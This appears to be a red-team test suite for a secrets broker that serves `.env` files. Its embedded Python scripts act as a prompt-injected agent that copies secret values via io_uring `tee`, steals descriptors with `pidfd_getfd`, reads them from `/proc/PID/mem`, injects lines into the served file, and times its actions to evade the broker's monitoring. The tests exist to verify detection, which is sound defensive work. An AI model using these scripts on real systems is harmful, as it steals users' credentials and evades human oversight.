//! Red team s9c (`.env` mounts, after the text went in pieces and the served FIFO got a
//! watch): a prompt-injected agent with the human's uid, a shell and `/proc`, trying to read
//! more than one piece of a mount's values, or to read unreported, while the human approves
//! an honest reader's card. A held attack is a passing test; one that still works is kept
//! `#[ignore = "LEAK: ..."]` (it fails today), or `#[ignore = "LIMIT (docs/mounts.md ...)"]`
//! when it is a limit the docs and every card state.

use std::process::{Command, Stdio};
use std::time::Duration;

use crate::harness::{Home, contains, text, wait_output};
use crate::mount::{Project, approve_card, finished, mount, store, values, wait_card};

/// The agent's side: a copier that never consumes. It holds the mount's FIFO through an
/// io_uring instance only: it opens `/proc/READER/fd/N` before the approval (before the
/// swap: the watch does not exist yet), or with `byname` the mount's own name before any
/// reader, registers that descriptor in the ring (`IORING_REGISTER_FILES`) and closes it,
/// so `/proc/*/fd` shows no second holder. Then it copies whatever is in the pipe with
/// `IORING_OP_TEE` (`tee(2)`: duplicates the pipe's buffers into the agent's own pipe and
/// leaves them in place for the reader), tees waiting beside the reader's `read`. The reader
/// still reads every byte (its `rchar` grows by every piece), the pipe empties as it should,
/// and the FIFO sees no opening, no mode change and no write: only an `IN_ACCESS`, which the
/// watch does not count. The kernel runs each tee on an io-wq worker thread of the thief.
///
/// Modes (words in `mode`): `many`: 32 tees in flight instead of 8; `spin`: two plain busy
/// loops per CPU at normal priority (nothing the broker refuses a reader for) make the woken
/// reader wait for a CPU, as in `redteam22b.rs`; `late`: no tee (so no worker thread) until
/// the broker's first piece moved the FIFO's modification time (`stat` of
/// `/proc/READER/fd/N`, no descriptor): the broker's looks before the text find nothing;
/// `vanish` (with `late`): each tee from a new thread that ends as soon as its tee did, which
/// ends the worker with it, before the broker's next look if it can.
///
/// Touches `argv[3]` once in position (the test approves only then). Prints what it copied
/// on stdout (the test only searches it, never shows it), `copies N` (distinct pieces) on
/// stderr.
const TEE_THIEF: &str = r#"
import os, sys, time, ctypes, mmap, struct, signal, threading
path, mode, ready = sys.argv[1:4]
spinners = []
st = os.stat(path); dev, ino = st.st_dev, st.st_ino
me = os.getpid(); pid = fdn = None
def find_reader():
    global pid, fdn
    t0 = time.time()
    while pid is None and time.time() - t0 < 20:
        for p in os.listdir("/proc"):
            if not p.isdigit() or int(p) == me:
                continue
            try:
                for f in os.listdir(f"/proc/{p}/fd"):
                    try:
                        s = os.stat(f"/proc/{p}/fd/{f}")
                        if s.st_dev == dev and s.st_ino == ino:
                            fl = [l for l in open(f"/proc/{p}/fdinfo/{f}") if l.startswith("flags:")][0]
                            if int(fl.split()[1], 8) & 3 == 0:
                                pid, fdn = int(p), f
                    except OSError:
                        pass
            except OSError:
                pass
        time.sleep(0.01)
    assert pid is not None, "no reader"
if "byname" in mode:
    src = path  # before any reader: the FIFO's own name, then only the ring holds it
else:
    find_reader()
    time.sleep(0.3)
    src = f"/proc/{pid}/fd/{fdn}"
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
params = ctypes.create_string_buffer(120)
ring = libc.syscall(425, 8, params)
assert ring >= 0, ctypes.get_errno()
sq_entries, cq_entries = struct.unpack_from("II", params.raw, 0)
sq_off = struct.unpack_from("IIIIIIIIQ", params.raw, 40)
cq_off = struct.unpack_from("IIIIIIIIQ", params.raw, 80)
sqr = mmap.mmap(ring, sq_off[6] + sq_entries * 4, offset=0)
cqr = mmap.mmap(ring, cq_off[5] + cq_entries * 16, offset=0x8000000)
sqes = mmap.mmap(ring, sq_entries * 64, offset=0x10000000)
fd = os.open(src, os.O_RDONLY | os.O_NONBLOCK)
arr = (ctypes.c_int * 1)(fd)
assert libc.syscall(427, ring, 2, arr, 1) == 0, ctypes.get_errno()
os.close(fd)  # only the ring holds the FIFO now
SLOTS = 32 if "many" in mode else 8
pipes = [os.pipe() for _ in range(SLOTS)]
IN_FIXED = 1 << 31
def submit(slot):
    tail = struct.unpack_from("I", sqr, sq_off[1])[0]
    mask = struct.unpack_from("I", sqr, sq_off[2])[0]
    i = tail & mask
    sqe = bytearray(64)
    # IORING_OP_TEE (33): fd = the agent's own pipe, splice_fd_in = fixed file 0.
    struct.pack_into("BBHiQQIIQ", sqe, 0, 33, 0, 0, pipes[slot][1], 0, 0, 1 << 16, IN_FIXED, slot)
    struct.pack_into("i", sqe, 44, 0)
    sqes[i * 64:(i + 1) * 64] = bytes(sqe)
    struct.pack_into("I", sqr, sq_off[6] + i * 4, i)
    struct.pack_into("I", sqr, sq_off[1], tail + 1)
    libc.syscall(426, ring, 1, 0, 0, None, 0)
def complete():
    while struct.unpack_from("I", cqr, cq_off[1])[0] == struct.unpack_from("I", cqr, cq_off[0])[0]:
        libc.syscall(426, ring, 0, 1, 1, None, 0)
    head = struct.unpack_from("I", cqr, cq_off[0])[0]
    cmask = struct.unpack_from("I", cqr, cq_off[2])[0]
    slot, res, _ = struct.unpack_from("QiI", cqr, cq_off[5] + (head & cmask) * 16)
    struct.pack_into("I", cqr, cq_off[0], head + 1)
    return slot, res
if "spin" in mode:
    for _ in range(2 * len(os.sched_getaffinity(0))):
        c = os.fork()
        if c == 0:
            ctypes.CDLL(None).prctl(1, signal.SIGKILL)  # PR_SET_PDEATHSIG: gone with the thief
            while True:
                pass
        spinners.append(c)
open(ready, "w").close()
def mtime():
    try:
        return os.stat(f"/proc/{pid}/fd/{fdn}").st_mtime_ns
    except OSError:
        return None
def moved(m0, t0):
    while time.time() - t0 < 40:
        m = mtime()
        if m != m0:
            return m
    return None
data = b""; copies = 0; last = None
def keep(slot, res):
    global data, copies, last
    got = b""
    while len(got) < res:
        got += os.read(pipes[slot][0], res - len(got))
    if got != last:  # the same piece seen by several tees
        data += got; copies += 1; last = got
t0 = time.time()
if "late" in mode:
    if pid is None:
        find_reader()
    m = moved(mtime(), t0)  # the first piece is in the pipe (or was)
if "vanish" in mode:
    # One tee per thread: the thread's end takes its io-wq worker with it.
    def one():
        submit(0)
        slot, res = complete()
        if res > 0:
            keep(slot, res)
    while m is not None and time.time() - t0 < 40:
        th = threading.Thread(target=one); th.start(); th.join()
        m = moved(m, t0)
else:
    # SLOTS tees wait beside the reader's read: each write wakes them all with it.
    for s in range(SLOTS):
        submit(s)
    while time.time() - t0 < 40:
        slot, res = complete()
        if res > 0:
            keep(slot, res)
        elif res == 0 and data:
            break  # end of the text: the broker closed its end
        elif pid is not None and not os.path.exists(f"/proc/{pid}"):
            break
        elif res == 0:
            time.sleep(0.001)
        submit(slot)
for c in spinners:
    os.kill(c, signal.SIGKILL)
    os.waitpid(c, 0)
sys.stderr.write(f"copies {copies}\n")
sys.stdout.buffer.write(data)
"#;

/// An honest program that loads `.env` and prints only how many bytes it read.
pub(crate) const HONEST: &str = "import sys\nsys.stdout.write(str(len(open('.env').read())))\n";

/// What a copy attempt came to.
struct Copy {
    /// Longest run of consecutive bytes of one value found in what the thief copied.
    longest: usize,
    /// How many bytes the thief copied at all.
    bytes: usize,
    /// How many distinct pieces it copied.
    copies: usize,
    /// What the honest reader printed (how many bytes it read), per read.
    honest: String,
    /// The audit log.
    audit: String,
    /// `keyveil mounts`: what the human is told.
    mounts: String,
    /// A read after the one the thief was caught at: a card was asked (the grant no longer
    /// serves it). `None`: no read after one caught.
    carded_after: Option<bool>,
}

/// Longest run of `value`'s bytes (at least 1) that `hay` holds.
pub(crate) fn longest_run(hay: &[u8], value: &[u8]) -> usize {
    let mut best = 0;
    for start in 0..value.len() {
        let mut len = best + 1;
        while start + len <= value.len()
            && hay.windows(len).any(|w| w == &value[start..start + len])
        {
            best = len;
            len += 1;
        }
    }
    best
}

/// Starts the tee thief of `round` in `mode` on the project's mount (it touches its ready
/// file once in position: [`wait_ready`]).
fn start_thief(p: &Project, mode: &str, round: usize) -> std::process::Child {
    let ready = p.tmp.path().join(format!("thief-ready-{round}"));
    Command::new("python3")
        .args([
            "-c",
            TEE_THIEF,
            p.env_file().to_str().unwrap(),
            mode,
            ready.to_str().unwrap(),
        ])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap()
}

/// Waits for the thief's ready file `name` in the project's TMPDIR.
pub(crate) fn wait_ready(p: &Project, name: &str) {
    let ready = p.tmp.path().join(name);
    let t0 = std::time::Instant::now();
    while !ready.exists() {
        assert!(
            t0.elapsed() < Duration::from_secs(30),
            "the thief never got ready"
        );
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// Whether the audit says a thief through io_uring was caught.
pub(crate) fn caught(audit: &str) -> bool {
    audit.contains("\"mount_read_suspect\"") && audit.contains("io_uring worker threads")
}

/// Runs the tee thief in `mode` against the honest reader, up to `reads` times: the first
/// read's card is approved (with `--ttl 10m` when `reads > 1`: a standing grant serves the
/// others with no card) once the thief is in position. Once the broker caught the thief,
/// one more read (no thief) tells whether the grant still serves it without a card.
fn copy_reads(mode: &str, reads: usize) -> Copy {
    let h = Home::new();
    // The layers behind the count of openings (`redteam_s11_mounts.rs`).
    h.without_open_count();
    let vals = values();
    store(&h, &vals);
    let p = Project::with_io_uring();
    mount(&h, &p);
    let mut stolen_all = Vec::new();
    let mut honest_all = Vec::new();
    let mut copies = 0;
    let mut carded_after = None;
    for round in 0..reads {
        let thief = start_thief(&p, mode, round);
        if mode.contains("byname") {
            // The thief holds the FIFO before the reader opens it.
            wait_ready(&p, &format!("thief-ready-{round}"));
        } else {
            std::thread::sleep(Duration::from_millis(300));
        }
        let reader = p.reader(&["python3", "-c", HONEST], &[]);
        if round == 0 {
            let card = wait_card(&h);
            assert!(card.to_string().contains("python3"));
            wait_ready(&p, &format!("thief-ready-{round}"));
            let ttl: &[&str] = if reads > 1 { &["--ttl", "10m"] } else { &[] };
            approve_card(&h, &card, ttl);
        }
        let honest = finished(reader);
        let stolen = wait_output(thief, Duration::from_secs(60));
        assert!(
            stolen.status.success(),
            "thief failed: {}",
            text(&stolen.stderr)
        );
        copies += text(&stolen.stderr)
            .lines()
            .find_map(|l| l.strip_prefix("copies "))
            .and_then(|n| n.trim().parse::<usize>().ok())
            .unwrap_or(0);
        stolen_all.push(stolen.stdout);
        honest_all.push(text(&honest.stdout));
        if reads > 1 && caught(&h.audit_text()) {
            // The same honest command again, no thief: a standing grant would serve it
            // without a card.
            let again = p.reader(&["python3", "-c", HONEST], &[]);
            let t0 = std::time::Instant::now();
            let mut carded = false;
            while t0.elapsed() < Duration::from_secs(10) {
                if !crate::mount::pending(&h).is_empty() {
                    carded = true;
                    break;
                }
                std::thread::sleep(Duration::from_millis(30));
            }
            let mut again = again;
            let _ = again.kill();
            let _ = again.wait();
            carded_after = Some(carded);
            break;
        }
    }
    let longest = vals
        .iter()
        .map(|(_, v)| {
            stolen_all
                .iter()
                .map(|s| longest_run(s, v.as_bytes()))
                .max()
                .unwrap_or(0)
        })
        .max()
        .unwrap_or(0);
    Copy {
        longest,
        bytes: stolen_all.iter().map(Vec::len).sum(),
        copies,
        honest: honest_all.join(","),
        audit: h.audit_text(),
        mounts: h.ok(&["mounts"]),
        carded_after,
    }
}

/// One read (see [`copy_reads`]).
fn copy(mode: &str) -> Copy {
    copy_reads(mode, 1)
}

/// What the io_uring look claims: a thief whose tees run on worker threads of its own is
/// seen before the first piece (it copies nothing) or at the broker's first look after its
/// workers appeared, having copied at most the one piece then in the pipe (a `NAME=` of at
/// most 7 bytes here, or up to 4 bytes of one value); seen, it is audited
/// (`mount_read_suspect`, naming the process), the grant ends, and `keyveil mounts` tells
/// the human what to do. A thief that copied nothing may go unseen only if it never got a
/// worker before the text was done.
fn assert_held(c: &Copy) {
    let seen = caught(&c.audit);
    assert!(
        c.bytes == 0 || seen,
        "the thief copied {} bytes unreported (longest run of one value: {} bytes; the honest reader read {}); mounts: {}",
        c.bytes,
        c.longest,
        c.honest,
        c.mounts
    );
    assert!(
        c.copies <= 1 && c.bytes <= 7 && c.longest <= 4,
        "the thief copied {} pieces, {} bytes, {} consecutive bytes of a value",
        c.copies,
        c.bytes,
        c.longest
    );
    if seen {
        assert!(
            c.audit.contains("may have been read by another process"),
            "the grant was not ended: {}",
            c.audit
        );
        assert!(c.mounts.contains("possible theft"), "{}", c.mounts);
        assert!(c.mounts.contains("io_uring"), "{}", c.mounts);
        assert!(c.mounts.contains("hint:"), "{}", c.mounts);
    }
}

/// `tee(2)` through an io_uring registered file: the agent copies the pipe's contents
/// without consuming them, so the reader reads everything, its `rchar` adds up, the pipe
/// empties, and the watch sees nothing but reads (`IN_ACCESS`, not counted). Was a LEAK
/// (4 to 109 of 257 bytes per read, unreported). Held since: the kernel runs every tee of a
/// ring on an io-wq worker, a thread of the thief with `PF_IO_WORKER` in its `stat` flags;
/// the broker looks for one before the first piece, before each piece and while it waits.
/// Here the thief's tees wait from before the approval: seen before the first piece (or at
/// the first look after its workers appeared).
#[test]
fn a_tee_thief_copies_at_most_a_piece_and_is_reported() {
    let c = copy("tee");
    assert_held(&c);
    assert!(caught(&c.audit), "{}", c.audit);
    // `keyveil mounts` says what io_uring open to every user means for a mount.
    if std::fs::read_to_string("/proc/sys/kernel/io_uring_disabled").is_ok_and(|v| v.trim() == "0")
    {
        assert!(
            c.mounts.contains("kernel.io_uring_disabled=0"),
            "{}",
            c.mounts
        );
    }
}

/// As above, with the woken reader slowed by the agent's normal-priority busy loops.
#[test]
fn a_tee_thief_with_spinners_copies_at_most_a_piece_and_is_reported() {
    let c = copy("tee+spin+many");
    assert_held(&c);
    assert!(caught(&c.audit), "{}", c.audit);
}

/// The thief knows of the look: no tee (no worker) until the first piece moved the FIFO's
/// modification time, then tees under CPU load. It copies at most the piece in the pipe
/// when its workers appeared, and the next look sees them.
#[test]
fn a_late_tee_thief_copies_at_most_a_piece_and_is_reported() {
    assert_held(&copy("tee+late+spin+many"));
}

/// A standing grant (`--ttl`): the thief opens the mount by name before each read (held
/// through its ring only, so the broker still sees one reader), starts its tees only once
/// the text flows, and would collect pieces read after read while the grant serves the same
/// honest command with no card. Was a LEAK (nothing reported, the grant never ended). Held:
/// the first read it copies from is reported, the grant ends, and the next read of the same
/// command needs a card again.
#[test]
fn a_tee_thief_cannot_collect_over_a_standing_grant() {
    let c = copy_reads("tee+byname+late+spin+many", 4);
    assert_held(&c);
    if caught(&c.audit) {
        assert_eq!(c.carded_after, Some(true), "{}", c.audit);
    }
}

/// The thief ends each worker right after its tee (a new thread per tee; a thread's end
/// takes its io-wq worker with it), trying to be gone before the broker's next look, which
/// comes once the reader has read the piece (the broker also looks while it waits for that).
#[test]
fn a_vanishing_tee_thief_copies_at_most_a_piece() {
    assert_held(&copy("tee+late+vanish+spin"));
}

/// The agent's side without io_uring: it takes the reader's own descriptor of the FIFO with
/// `pidfd_getfd` (what the same uid may do to a process it may ptrace: no opening, so
/// nothing for the watch) once the text flows (the FIFO's modification time moved), copies
/// what passes with plain blocking `tee(2)` in 4 threads for 5 ms, and closes it before
/// the text is done, so the holders scan after the text finds no one. Prints what it copied
/// on stdout (only searched), `copies N` on stderr.
const PIDFD_THIEF: &str = r#"
import os, sys, time, ctypes, threading
path, ready = sys.argv[1:3]
st = os.stat(path); dev, ino = st.st_dev, st.st_ino
me = os.getpid(); pid = fdn = None; t0 = time.time()
while pid is None and time.time() - t0 < 20:
    for p in os.listdir("/proc"):
        if not p.isdigit() or int(p) == me:
            continue
        try:
            for f in os.listdir(f"/proc/{p}/fd"):
                try:
                    s = os.stat(f"/proc/{p}/fd/{f}")
                    if s.st_dev == dev and s.st_ino == ino:
                        pid, fdn = int(p), int(f)
                except OSError:
                    pass
        except OSError:
            pass
    time.sleep(0.01)
assert pid is not None, "no reader"
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
pidfd = libc.syscall(434, pid, 0)  # pidfd_open
assert pidfd >= 0, ctypes.get_errno()
open(ready, "w").close()
src = f"/proc/{pid}/fd/{fdn}"
m0 = os.stat(src).st_mtime_ns
while os.stat(src).st_mtime_ns == m0:  # the text flows
    pass
fd = libc.syscall(438, pidfd, fdn, 0)  # pidfd_getfd: no opening, nothing for inotify
assert fd >= 0, ctypes.get_errno()
data = []; lock = threading.Lock(); stop = time.time() + 0.005
def tee():
    r, w = os.pipe()
    while time.time() < stop:
        n = libc.tee(fd, w, 1 << 16, 0)
        if n <= 0:
            break
        got = os.read(r, n)
        with lock:
            if not data or data[-1] != got:
                data.append(got)
ths = [threading.Thread(target=tee, daemon=True) for _ in range(4)]
for t in ths: t.start()
time.sleep(0.005)
os.close(fd)  # gone before the text ends: no holder after
sys.stderr.write(f"copies {len(data)}\n")
sys.stdout.buffer.write(b"".join(data))
sys.stdout.flush()
os._exit(0)
"#;

/// A copier with a plain descriptor taken by `pidfd_getfd`: no opening, no io_uring thread,
/// and gone before the holders scan after the text. Needs the ptrace access that also
/// reads the reader's memory (`the_agent_reads_the_values_from_the_readers_memory`).
/// Measured: in 2 of 4 runs it copied 4 and 12 bytes (3 pieces in a row of one value),
/// unreported (`mount_read`, `opened_during_write: []`); the other runs came too late.
#[test]
#[ignore = "LIMIT (docs/mounts.md, What a mount cannot give: a copier without io_uring, pidfd_getfd): tee(2) on a descriptor taken with pidfd_getfd and dropped before the text ends copies pieces unreported; it needs the ptrace access that reads the reader's memory anyway, and every card says the reader's values are open to programs of the user that may debug it"]
fn a_pidfd_getfd_tee_thief_copies_pieces_unreported() {
    let h = Home::new();
    let vals = values();
    store(&h, &vals);
    let p = Project::new();
    mount(&h, &p);
    let ready = p.tmp.path().join("pidfd-ready");
    let thief = Command::new("python3")
        .args([
            "-c",
            PIDFD_THIEF,
            p.env_file().to_str().unwrap(),
            ready.to_str().unwrap(),
        ])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let reader = p.reader(&["python3", "-c", HONEST], &[]);
    let card = wait_card(&h);
    wait_ready(&p, "pidfd-ready");
    approve_card(&h, &card, &[]);
    let honest = finished(reader);
    let stolen = wait_output(thief, Duration::from_secs(60));
    assert!(
        stolen.status.success(),
        "thief failed: {}",
        text(&stolen.stderr)
    );
    let audit = h.audit_text();
    let reported =
        audit.contains("\"mount_read_suspect\"") || !audit.contains("\"opened_during_write\":[]");
    let longest = vals
        .iter()
        .map(|(_, v)| longest_run(&stolen.stdout, v.as_bytes()))
        .max()
        .unwrap_or(0);
    assert!(
        stolen.stdout.is_empty() || reported,
        "the thief copied {} bytes unreported ({}; longest run of one value: {longest}; the honest reader read {})",
        stolen.stdout.len(),
        text(&stolen.stderr).trim(),
        text(&honest.stdout)
    );
}

/// The agent's side, after the read: finds the process that held the mount read-only, waits
/// until it no longer holds it (it has read the text), then reads its memory through
/// `/proc/READER/mem` (what the same uid may do to a dumpable process it may ptrace: any
/// without Yama, its own descendants with Yama's default) and prints what follows `PLAIN=`
/// in it (the test only searches it, never shows it).
const MEM_THIEF: &str = r#"
import os, sys, time, re
path = sys.argv[1]
st = os.stat(path); dev, ino = st.st_dev, st.st_ino
me = os.getpid(); pid = None; t0 = time.time()
while pid is None and time.time() - t0 < 20:
    for p in os.listdir("/proc"):
        if not p.isdigit() or int(p) == me:
            continue
        try:
            for f in os.listdir(f"/proc/{p}/fd"):
                try:
                    s = os.stat(f"/proc/{p}/fd/{f}")
                    if s.st_dev == dev and s.st_ino == ino:
                        pid = int(p)
                except OSError:
                    pass
        except OSError:
            pass
    time.sleep(0.01)
assert pid is not None, "no reader"
def holds():
    try:
        return any(os.stat(f"/proc/{pid}/fd/{f}").st_ino == ino for f in os.listdir(f"/proc/{pid}/fd"))
    except OSError:
        return False
while holds():
    time.sleep(0.01)
out = b""
with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
    for l in maps:
        a, perms = l.split()[:2]
        if "r" not in perms or "w" not in perms:
            continue
        lo, hi = (int(x, 16) for x in a.split("-"))
        try:
            mem.seek(lo)
            b = mem.read(hi - lo)
        except (OSError, ValueError, OverflowError):
            continue
        for m in re.finditer(rb"PLAIN=", b):
            out += b[m.start():m.start() + 400]
sys.stdout.buffer.write(out)
"#;

/// A server-like reader: loads `.env` and keeps running with it in memory.
const SERVER: &str = "import sys, time\nt = open('.env').read()\nsys.stdout.write(str(len(t)))\nsys.stdout.flush()\ntime.sleep(3)\n";

/// Once the approved reader has read the text, the values are in its memory, and the agent
/// (same uid, typically the reader's ancestor: it started `docker compose up`) reads them
/// there through `/proc/READER/mem`, without touching the FIFO: no piece, no watch, nothing
/// to report. A limit of every reader keyveil does not start (as `/proc/PID/environ` is for a
/// run's child), not of the pipe. LEAK until documented or closed.
#[test]
#[ignore = "LIMIT (docs/mounts.md, What a mount cannot give: the values in the reader's memory): a same-uid process that may ptrace the reader (no Yama, or its own descendant) reads every value from /proc/READER/mem; every card says so; keep readers out of the agent's process tree with Yama ptrace_scope >= 1"]
fn the_agent_reads_the_values_from_the_readers_memory() {
    let h = Home::new();
    let vals = values();
    store(&h, &vals);
    let p = Project::new();
    mount(&h, &p);
    let thief = Command::new("python3")
        .args(["-c", MEM_THIEF, p.env_file().to_str().unwrap()])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let reader = p.reader(&["python3", "-c", SERVER], &[]);
    let card = wait_card(&h);
    approve_card(&h, &card, &[]);
    let stolen = wait_output(thief, Duration::from_secs(60));
    let honest = finished(reader);
    assert!(
        stolen.status.success(),
        "thief failed: {}",
        text(&stolen.stderr)
    );
    assert_ne!(text(&honest.stdout), "0", "the reader was served");
    let leaked = vals
        .iter()
        .filter(|(_, v)| {
            let t = v.rsplit(' ').find(|w| w.len() >= 16).unwrap_or(v);
            contains(&stolen.stdout, t.trim())
        })
        .count();
    assert_eq!(
        leaked, 0,
        "the agent read {leaked} values from the reader's memory"
    );
}

/// The agent's side of an injection: once the honest reader holds the mount (its card is
/// shown), opens `/proc/READER/fd/N` **for writing** (the FIFO is still 0600: the swap and
/// the watch come only with the approval), registers it in an io_uring instance and closes
/// it, so `/proc/*/fd` shows only the reader. The broker serves the text; the agent waits
/// until the FIFO's modification time (`stat(/proc/READER/fd/N)`, no descriptor) has been
/// still for 300 ms (the text is done), then appends a line through the ring and exits: the
/// reader, which gets end-of-file only when every writer is gone, reads that line as part
/// of `.env`.
const INJECTOR: &str = r#"
import os, sys, time, ctypes, mmap, struct
path, ready = sys.argv[1:3]
st = os.stat(path); dev, ino = st.st_dev, st.st_ino
me = os.getpid(); pid = fdn = None; t0 = time.time()
while pid is None and time.time() - t0 < 20:
    for p in os.listdir("/proc"):
        if not p.isdigit() or int(p) == me:
            continue
        try:
            for f in os.listdir(f"/proc/{p}/fd"):
                try:
                    s = os.stat(f"/proc/{p}/fd/{f}")
                    if s.st_dev == dev and s.st_ino == ino:
                        pid, fdn = int(p), f
                except OSError:
                    pass
        except OSError:
            pass
    time.sleep(0.01)
assert pid is not None, "no reader"
time.sleep(0.3)
src = f"/proc/{pid}/fd/{fdn}"
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
params = ctypes.create_string_buffer(120)
ring = libc.syscall(425, 4, params)
assert ring >= 0, ctypes.get_errno()
sq_entries, cq_entries = struct.unpack_from("II", params.raw, 0)
sq_off = struct.unpack_from("IIIIIIIIQ", params.raw, 40)
cq_off = struct.unpack_from("IIIIIIIIQ", params.raw, 80)
sqr = mmap.mmap(ring, sq_off[6] + sq_entries * 4, offset=0)
cqr = mmap.mmap(ring, cq_off[5] + cq_entries * 16, offset=0x8000000)
sqes = mmap.mmap(ring, sq_entries * 64, offset=0x10000000)
fd = os.open(src, os.O_WRONLY | os.O_NONBLOCK)
arr = (ctypes.c_int * 1)(fd)
assert libc.syscall(427, ring, 2, arr, 1) == 0, ctypes.get_errno()
os.close(fd)  # only the ring holds the write end now
open(ready, "w").close()
m0 = os.stat(src).st_mtime_ns; moved = None; t0 = time.time()
while time.time() - t0 < 30:
    try:
        m = os.stat(src).st_mtime_ns
    except OSError:
        sys.exit(0)  # the reader is gone
    if m != m0:
        m0, moved = m, time.time()
    elif moved and time.time() - moved > 0.3:
        break
    time.sleep(0.005)
line = ctypes.create_string_buffer(b"\nINJECTED_BY_AGENT=1\n")
tail = struct.unpack_from("I", sqr, sq_off[1])[0]
mask = struct.unpack_from("I", sqr, sq_off[2])[0]
i = tail & mask
sqe = bytearray(64)
# IORING_OP_WRITE (23) on fixed file 0 (IOSQE_FIXED_FILE).
struct.pack_into("BBHiQQII", sqe, 0, 23, 1, 0, 0, 0, ctypes.addressof(line), len(line.raw) - 1, 0)
sqes[i * 64:(i + 1) * 64] = bytes(sqe)
struct.pack_into("I", sqr, sq_off[6] + i * 4, i)
struct.pack_into("I", sqr, sq_off[1], tail + 1)
libc.syscall(426, ring, 1, 1, 1, None, 0)
head = struct.unpack_from("I", cqr, cq_off[0])[0]
cmask = struct.unpack_from("I", cqr, cq_off[2])[0]
_, res, _ = struct.unpack_from("QiI", cqr, cq_off[5] + (head & cmask) * 16)
sys.stdout.write(f"wrote {res}\n")
"#;

/// A reader that loads `.env` and prints how many lines of it the agent wrote.
const COUNTS_INJECTED: &str =
    "import sys\nt = open('.env').read()\nsys.stdout.write(str(t.count('INJECTED_BY_AGENT=')))\n";

/// The agent appends its own lines to the text the approved reader loads: a write end held
/// only through an io_uring ring (opened before the approval, when the FIFO was still
/// writable and unwatched) keeps the reader from end-of-file after the broker is done, and
/// what it writes then is read as `.env`. A loader takes the last (python-dotenv, `sh`) or
/// the first value of a name: the agent can add variables or override one the human's
/// values go with (an API base URL next to its key), so the approved program sends a value
/// where the agent likes. Was unreported (the watch counted writes only while the pieces
/// went; the audit said `mount_read`). Held since: after the text the broker closes its write
/// end through a read end of its own, whose non-blocking read says whether a writer remains,
/// and keeps the watch until the reader closes; a remaining writer, or a write or mode change
/// then, is audited `mount_read_suspect` (`after_text`), the grant ends and `keyveil mounts`
/// says the reader may have loaded lines keyveil did not write. Detected, not prevented: the
/// reader still reads what the agent writes.
#[test]
fn an_agent_cannot_append_lines_to_a_served_read_unreported() {
    let h = Home::new();
    let vals = values();
    store(&h, &vals);
    let p = Project::new();
    mount(&h, &p);
    let ready = p.tmp.path().join("injector-ready");
    let injector = Command::new("python3")
        .args([
            "-c",
            INJECTOR,
            p.env_file().to_str().unwrap(),
            ready.to_str().unwrap(),
        ])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let reader = p.reader(&["python3", "-c", COUNTS_INJECTED], &[]);
    let card = wait_card(&h);
    let t0 = std::time::Instant::now();
    while !ready.exists() {
        assert!(
            t0.elapsed() < Duration::from_secs(30),
            "the injector never got ready"
        );
        std::thread::sleep(Duration::from_millis(10));
    }
    approve_card(&h, &card, &[]);
    let injected = wait_output(injector, Duration::from_secs(60));
    let honest = finished(reader);
    assert!(
        injected.status.success(),
        "injector failed: {}",
        text(&injected.stderr)
    );
    let audit = h.audit_text();
    let mounts = h.ok(&["mounts"]);
    let reported = audit.contains("\"mount_read_suspect\"");
    assert!(
        text(&honest.stdout) == "0" || reported,
        "the reader loaded {} line(s) the agent wrote, unreported ({}); mounts: {mounts}",
        text(&honest.stdout),
        text(&injected.stdout).trim()
    );
    if reported {
        // Seen after the text: the grant ended, the human told.
        assert!(audit.contains("\"after_text\":true"), "{audit}");
        assert!(
            audit.contains("may have been written into by another process"),
            "{audit}"
        );
        assert!(mounts.contains("possible tampering"), "{mounts}");
    }
}
